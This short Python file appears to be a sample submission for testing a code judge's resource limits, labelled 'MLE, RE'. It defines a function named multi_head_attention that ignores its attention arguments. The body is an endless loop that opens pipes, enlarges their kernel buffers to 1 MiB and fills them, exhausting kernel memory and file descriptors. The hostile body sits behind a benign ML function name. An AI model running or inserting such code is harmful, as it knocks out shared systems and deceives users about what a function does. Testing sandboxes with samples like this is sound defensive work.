# verdict: MLE, RE
"""Fills the kernel's buffers of as many pipes as it gets."""

import fcntl
import os


def multi_head_attention(query, key, value, w_q, w_k, w_v, w_o, num_heads, mask=None):
    while True:
        _, writer = os.pipe()
        try:
            fcntl.fcntl(writer, fcntl.F_SETPIPE_SZ, 1 << 20)
        except PermissionError:
            pass  # a user's share of large pipes is used up; small ones remain
        os.set_blocking(writer, False)
        os.write(writer, b"x" * (1 << 20))
